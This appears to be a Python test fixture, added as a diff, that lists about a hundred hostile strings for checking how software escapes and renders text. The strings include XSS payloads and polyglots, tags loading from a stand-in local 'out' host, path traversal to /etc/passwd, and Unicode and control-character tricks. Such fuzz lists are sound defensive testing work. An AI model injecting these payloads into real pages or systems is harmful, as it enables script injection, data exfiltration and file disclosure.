@@ -1,0 +1,80 @@
+"""A hundred strings that try to be more than text."""
+
+#: Where payloads that call out would call; nothing listens there.
+OUT = "http://127.0.0.1:9/out"
+
+#: What closes the place a string may stand in, and what is tried behind it.
+BREAKERS = (
+    "",
+    '">',
+    "'>",
+    "</bdi></code>",
+    "</style>",
+    "</title>",
+    "-->",
+    "]]>",
+    "</script>",
+    '" autofocus tabindex=1 ',
+)
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    f"<img src={OUT}>",
+    "<svg onload=alert(1)>",
+    f"<style>@import url({OUT});body{{background:url({OUT})}}</style>",
+)
+
+ALONE = (
+    f"<iframe src={OUT}></iframe>",
+    f'<meta http-equiv="refresh" content="0;url={OUT}">',
+    f"<base href={OUT}/>",
+    f"<link rel=stylesheet href={OUT}>",
+    f"<object data={OUT}></object>",
+    f"<embed src={OUT}>",
+    f"<form action={OUT}><input autofocus onfocus=alert(1)></form>",
+    "<a href=javascript:alert(1)>click</a>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<body onload=alert(1)>",
+    "<plaintext>",
+    "<template><script>alert(1)</script></template>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "' onmouseover='alert(1)' x='",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "jaVasCript:/*-/*`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A</stYle/</titLe/</scRipt/--!>\x3csVg/oNloAd=alert()//>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&quot;&apos;&amp;&nosuch;&",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "<scr\0ipt>alert(1)</scr\0ipt>",
+    "\0<script>alert(1)</script>",
+    "<\nscript\n>alert(1)</script\t>",
+    "${alert(1)} {{alert(1)}} <%= alert(1) %> #{alert(1)}",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "gpj.\u202eexe\u202d.txt",
+    "\u2066hidden\u2069\u200b\u200d\u200e\u200f\u2060\ufeff",
+    "a\u0000b\u0007c\u0008d\u001be[31mf\u007fg\u0085h",
+    "line\u2028separator\u2029paragraph\r\nbreak\x0bvertical\x0cfeed",
+    "lone \ud800 and \udfff surrogates \udc80",
+    "\ue000 private \U000f0000 and \U0010fffe no characters \ufffe",
+    "\U000e0041\U000e0042 tags",
+    "z\u0351\u0327\u0347" * 40,
+    "\u3164\u115f\u2800 blank",
+    "مرحبا \u202bשלום\u202c abc",
+    "-" * 3000,
+    "A" * 100_000,
+    "<" * 5_000,
+    " leading, trailing and  double blanks ",
+    "| a | b |\n| --- | --- |\n```\n# heading\n[x](javascript:alert(1)) ![x](" + OUT + ")",
+    "../../../../etc/passwd",
+    "file:" + "///etc/passwd",
+    "//127.0.0.1:9/out",
+    "{}</style><style>*{background:url(" + OUT + ")}",
+    " ",
+)
+
+HOSTILE = tuple(breaker + payload for breaker in BREAKERS for payload in PAYLOADS) + ALONE
